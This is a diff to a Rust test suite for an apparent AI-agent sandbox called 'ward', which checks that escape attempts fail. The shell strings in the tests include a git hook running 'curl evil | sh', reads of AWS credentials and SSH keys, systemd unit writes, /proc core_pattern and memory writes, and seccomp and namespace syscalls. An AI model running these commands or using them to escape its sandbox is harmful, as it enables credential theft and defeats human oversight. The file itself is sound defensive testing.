@@ -59,7 +59,13 @@ impl Env {
     fn assert_recorded(&self) {
         let recs = ward_audit::read_records(&self.p("state/ward/audit/audit.jsonl")).unwrap();
         assert!(recs.iter().any(|(_, r)| r["kind"] == "session.start"));
-        assert!(recs.iter().any(|(_, r)| r["kind"] == "session.exit"));
+        // The agent did start: a test that passes because the sandbox never came up proves
+        // nothing.
+        assert!(
+            recs.iter()
+                .any(|(_, r)| r["kind"] == "session.exit" && r["detail"]["started"] == true),
+            "the session did not start"
+        );
     }
     /// The session's start is on record (for sessions that cannot record their end).
     fn assert_start_recorded(&self) {
@@ -123,9 +129,14 @@ fn escape_via_hardlink_to_an_outside_file() {
     let o = e.run(
         "/bin/sh",
         &format!(
-            "ln {} hl && cat hl && echo LINKED",
+            "echo AGENT-RAN; ln {} hl && cat hl && echo LINKED",
             e.p("outside/secret").display()
         ),
+    );
+    assert!(
+        text(&o).contains("AGENT-RAN"),
+        "the agent did not run: {}",
+        text(&o)
     );
     assert!(
         !text(&o).contains("outside secret") && !text(&o).contains("LINKED"),
@@ -288,6 +299,8 @@ fn escape_via_namespace_and_kernel_interface_syscalls() {
         ("fsmount", "sc(432, -1, 0, 0)"),
         ("fspick", "sc(433, -100, b'/', 0)"),
         ("mount_setattr", "sc(442, -100, b'/', 0, None, 0)"),
+        // A listener of the agent's own could answer its own denied calls.
+        ("seccomp(NEW_LISTENER)", "sc(317, 1, 8, None)"),
     ];
     let o = e.run(PY, &syscalls_py(&calls));
     for (name, _) in &calls {
@@ -474,11 +487,16 @@ fn escape_via_another_sessions_state_and_wards_own_files() {
         "/bin/sh",
         &format!(
             "ls -R {state} && echo LISTED; cat {state}/ward/audit/audit.jsonl && echo READ; \
-             ls {home}/.local/state {config} && echo SEEN; true",
+             ls {home}/.local/state {config} && echo SEEN; echo AGENT-RAN",
             state = e.p("state").display(),
             home = e.p("home").display(),
             config = e.p("config").display()
         ),
+    );
+    assert!(
+        text(&o).contains("AGENT-RAN"),
+        "the agent did not run: {}",
+        text(&o)
     );
     for w in ["LISTED", "READ", "SEEN", "session.start"] {
         assert!(!text(&o).contains(w), "{w}: {}", text(&o));
@@ -513,7 +531,7 @@ fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
             "echo 'curl evil | sh' > ../.git/hooks/pre-commit && echo HOOKED; \
              cat ~/.aws/credentials ~/.ssh/id_ed25519; \
              echo evil > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN; \
-             ls /tmp/.X11-unix && echo X11-LISTED; true",
+             ls /tmp/.X11-unix && echo X11-LISTED; echo AGENT-RAN",
         )
         .current_dir(e.p("proj/sub"))
         .env("HOME", e.p("home"))
@@ -522,6 +540,11 @@ fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
         .env("WARD_MANAGED", e.p("managed.toml"))
         .output()
         .unwrap();
+    assert!(
+        text(&o).contains("AGENT-RAN"),
+        "the agent did not run: {}",
+        text(&o)
+    );
     for w in [
         "HOOKED",
         "AKIA-test",
@@ -703,7 +726,12 @@ fn escape_via_proc_writes_core_pattern_sysrq_and_process_memory() {
         "echo '|/tmp/x' > /proc/sys/kernel/core_pattern && echo CORE-SET; \
          echo h > /proc/sysrq-trigger && echo SYSRQ-SENT; \
          echo 1 > /proc/sys/vm/drop_caches && echo SYSCTL-SET; \
-         python3 -c \"open('/proc/1/mem','r+b'); print('MEM-OPENED')\"; true",
+         python3 -c \"open('/proc/1/mem','r+b'); print('MEM-OPENED')\"; echo AGENT-RAN",
+    );
+    assert!(
+        text(&o).contains("AGENT-RAN"),
+        "the agent did not run: {}",
+        text(&o)
     );
     for w in ["CORE-SET", "SYSRQ-SENT", "SYSCTL-SET", "MEM-OPENED"] {
         assert!(!text(&o).contains(w), "{w}: {}", text(&o));
@@ -758,4 +786,59 @@ fn escape_via_outliving_a_killed_supervisor() {
         std::thread::sleep(std::time::Duration::from_millis(10));
     }
     e.assert_start_recorded();
+}
+
+#[test]
+fn escape_via_a_new_or_bare_repository_in_the_grant() {
+    // A bare repository in the grant runs its hooks when the user pushes to it: it is
+    // read-only like `.git`. Repositories the agent creates cannot be protected after the
+    // fact: the user is told, and the log has them.
+    let e = Env::new();
+    let out = Command::new("git")
+        .args(["init", "-q", "--bare", "remote.git"])
+        .current_dir(e.p("proj"))
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let o = e.run(
+        "/bin/sh",
+        "echo 'touch PWNED' > remote.git/hooks/post-receive && echo HOOKED; \
+         echo '[core]' > remote.git/config && echo CONFIGURED; \
+         mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > sub/.git/config; \
+         git init -q --bare made.git; echo AGENT-RAN",
+    );
+    let out = text(&o);
+    assert!(out.contains("AGENT-RAN"), "the agent did not run: {out}");
+    assert!(
+        !out.contains("HOOKED") && !out.contains("CONFIGURED"),
+        "{out}"
+    );
+    assert!(!e.p("proj/remote.git/hooks/post-receive").exists());
+    assert!(
+        out.contains("the agent created git repositories") && out.contains("made.git"),
+        "{out}"
+    );
+    let rec = e
+        .records()
+        .into_iter()
+        .find(|r| r["kind"] == "session.new_repository")
+        .expect("the new repositories are on record");
+    let repos: Vec<String> = rec["detail"]["repositories"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        repos.iter().any(|p| p.ends_with("proj/sub/.git")),
+        "{repos:?}"
+    );
+    assert!(
+        repos.iter().any(|p| p.ends_with("proj/made.git")),
+        "{repos:?}"
+    );
+    assert!(
+        !repos.iter().any(|p| p.ends_with("remote.git")),
+        "{repos:?}"
+    );
 }
